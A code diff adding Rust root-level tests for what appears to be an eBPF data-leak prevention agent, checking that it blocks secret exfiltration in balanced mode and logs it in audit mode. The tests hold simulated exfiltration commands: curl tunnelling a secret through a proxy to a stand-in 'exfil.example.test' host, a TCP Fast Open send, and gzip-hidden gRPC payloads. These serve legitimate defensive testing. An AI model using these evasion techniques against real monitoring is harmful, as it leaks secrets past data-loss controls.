@@ -253,3 +253,222 @@ fn unscannable_traffic_is_refused_in_balanced_and_logged_in_audit() {
         })
         .unwrap_or_else(|| panic!("no audit warning:\n{}", agent.output()));
 }
+
+/// An HTTP proxy of the pod's own choosing: answers a CONNECT with 200,
+/// then one request inside the tunnel with `200 ok`; records every byte.
+fn connect_proxy() -> (SocketAddr, Arc<Mutex<Vec<u8>>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap();
+    let got: Arc<Mutex<Vec<u8>>> = Arc::default();
+    let g = got.clone();
+    std::thread::spawn(move || {
+        for s in l.incoming().take(8) {
+            let Ok(mut s) = s else { continue };
+            let g = g.clone();
+            std::thread::spawn(move || {
+                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut buf = [0u8; 4096];
+                let mut answered = 0;
+                while let Ok(n) = s.read(&mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    let mut all = g.lock().unwrap();
+                    all.extend_from_slice(&buf[..n]);
+                    let heads = all.windows(4).filter(|w| w == b"\r\n\r\n").count();
+                    drop(all);
+                    while answered < heads {
+                        answered += 1;
+                        let reply: &[u8] = if answered == 1 {
+                            b"HTTP/1.1 200 Connection established\r\n\r\n"
+                        } else {
+                            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
+                        };
+                        let _ = s.write_all(reply);
+                    }
+                }
+            });
+        }
+    });
+    (addr, got)
+}
+
+#[test]
+#[cfg_attr(
+    not(feature = "root-tests"),
+    ignore = "needs root and the eBPF build: run `cargo xtask test`"
+)]
+fn a_connect_tunnel_through_a_proxy_of_the_pods_choosing_is_refused_then_relayed_in_audit() {
+    require_root();
+    let cg = TestCgroup::new("connect-in");
+    let (proxy, got) = connect_proxy();
+    let target = format!("http://exfil.example.test/leak/{SECRET}");
+    let args = |p: SocketAddr| -> Vec<String> {
+        vec![
+            "-sS".into(),
+            "--max-time".into(),
+            "10".into(),
+            "-o".into(),
+            "/dev/null".into(),
+            "-w".into(),
+            "%{http_connect}".into(),
+            "-p".into(),
+            "-x".into(),
+            format!("http://{p}"),
+            target.clone(),
+        ]
+    };
+    let place = Place {
+        cgroup: Some(&cg),
+        netns: None,
+    };
+    let run_curl = || {
+        let a = args(proxy);
+        let a: Vec<&str> = a.iter().map(String::as_str).collect();
+        client::run(place, "curl", &a, TIMEOUT)
+    };
+
+    // Balanced: the CONNECT is answered 403 by the agent; the proxy never
+    // sees it, nor what would have gone through the tunnel.
+    let agent = start_agent(&cg, &[]);
+    let run = run_curl();
+    assert_eq!(run.stdout.trim(), "403", "{run:?}\n{}", agent.output());
+    assert!(got.lock().unwrap().is_empty(), "the proxy was reached");
+    let f = agent
+        .records()
+        .into_iter()
+        .find(|r| r["rule_id"] == "scanner.unscannable")
+        .unwrap_or_else(|| panic!("no finding; log:\n{}", agent.output()));
+    assert_eq!(f["action"], "block", "{f}");
+    drop(agent);
+
+    // Audit: the tunnel is relayed, with a warning.
+    let agent = start_agent(&cg, &["--mode", "audit"]);
+    let run = run_curl();
+    assert_eq!(run.stdout.trim(), "200", "{run:?}\n{}", agent.output());
+    let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
+    assert!(
+        seen.starts_with("CONNECT exfil.example.test:80"),
+        "not relayed: {seen}"
+    );
+    agent
+        .wait_for_line(Duration::from_secs(10), |l| {
+            l.contains("upgraded connection relayed unscanned")
+        })
+        .unwrap_or_else(|| panic!("no audit warning:\n{}", agent.output()));
+}
+
+#[test]
+#[cfg_attr(
+    not(feature = "root-tests"),
+    ignore = "needs root and the eBPF build: run `cargo xtask test`"
+)]
+fn tcp_fast_open_data_in_the_syn_is_redirected_and_scanned() {
+    require_root();
+    let cg = TestCgroup::new("tfo");
+    let up = Upstream::start("127.0.0.1:0".parse().unwrap());
+    let agent = start_agent(&cg, &[]);
+    // sendto(MSG_FASTOPEN) connects and sends in one call: the data rides
+    // the SYN, past a connect() the program might not see.
+    let script = format!(
+        "import socket\ns=socket.socket()\n\
+s.sendto(b'GET /tfo-leak?t={SECRET} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('{}', {}))\n\
+s.settimeout(5)\nprint(s.recv(100).split(b'\\r\\n')[0].decode())\n",
+        up.addr.ip(),
+        up.addr.port()
+    );
+    let run = client::run(
+        Place {
+            cgroup: Some(&cg),
+            netns: None,
+        },
+        "python3",
+        &["-c", &script],
+        TIMEOUT,
+    );
+    assert_eq!(
+        run.stdout.trim(),
+        "HTTP/1.1 403 Forbidden",
+        "{run:?}\n{}",
+        agent.output()
+    );
+    assert!(
+        !up.seen().iter().any(|p| p.contains("tfo-leak")),
+        "the secret left"
+    );
+}
+
+#[test]
+#[cfg_attr(
+    not(feature = "root-tests"),
+    ignore = "needs root and the eBPF build: run `cargo xtask test`"
+)]
+fn grpc_messages_compressed_inside_the_body_are_refused() {
+    require_root();
+    let cg = TestCgroup::new("grpc-gzip");
+    let up = Upstream::start("127.0.0.1:0".parse().unwrap());
+    let agent = start_agent(&cg, &[]);
+    // A gRPC request whose one message is gzip'd (flag 1), as
+    // `grpc-encoding: gzip` declares: the secret is invisible in the bytes.
+    let dir = std::env::temp_dir().join(format!("plk-grpc-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let frame = dir.join("frame.bin");
+    let msg = {
+        use std::io::Write as _;
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(format!("token {SECRET}").as_bytes()).unwrap();
+        gz.finish().unwrap()
+    };
+    let mut body = vec![1u8];
+    body.extend_from_slice(&(msg.len() as u32).to_be_bytes());
+    body.extend_from_slice(&msg);
+    std::fs::write(&frame, &body).unwrap();
+    let data = format!("@{}", frame.display());
+    let (code, _) = curl(
+        &cg,
+        &[
+            "-H",
+            "content-type: application/grpc",
+            "-H",
+            "grpc-encoding: gzip",
+            "--data-binary",
+            &data,
+            &up.url("/grpc-up"),
+        ],
+    );
+    assert_eq!(code, "403", "agent log:\n{}", agent.output());
+    assert!(
+        !up.seen().iter().any(|p| p.contains("grpc-up")),
+        "the compressed message left"
+    );
+    // The same message uncompressed (identity) is scanned as it is: the
+    // secret is found in the frame.
+    let mut plain = vec![0u8];
+    let text = format!("token {SECRET}");
+    plain.extend_from_slice(&(text.len() as u32).to_be_bytes());
+    plain.extend_from_slice(text.as_bytes());
+    std::fs::write(&frame, &plain).unwrap();
+    let (code, _) = curl(
+        &cg,
+        &[
+            "-H",
+            "content-type: application/grpc",
+            "-H",
+            "grpc-encoding: identity",
+            "--data-binary",
+            &data,
+            &up.url("/grpc-plain"),
+        ],
+    );
+    assert_eq!(code, "403");
+    // An answer compressed message by message: not passed to the client.
+    let (code, _) = curl(&cg, &[&up.url("/grpc-gzip")]);
+    assert_ne!(code, "200", "agent log:\n{}", agent.output());
+    let f = agent
+        .records()
+        .into_iter()
+        .find(|r| r["rule_id"] == "scanner.unscannable" && r["direction"] == "response")
+        .unwrap_or_else(|| panic!("no response finding; log:\n{}", agent.output()));
+    assert_eq!(f["action"], "block", "{f}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
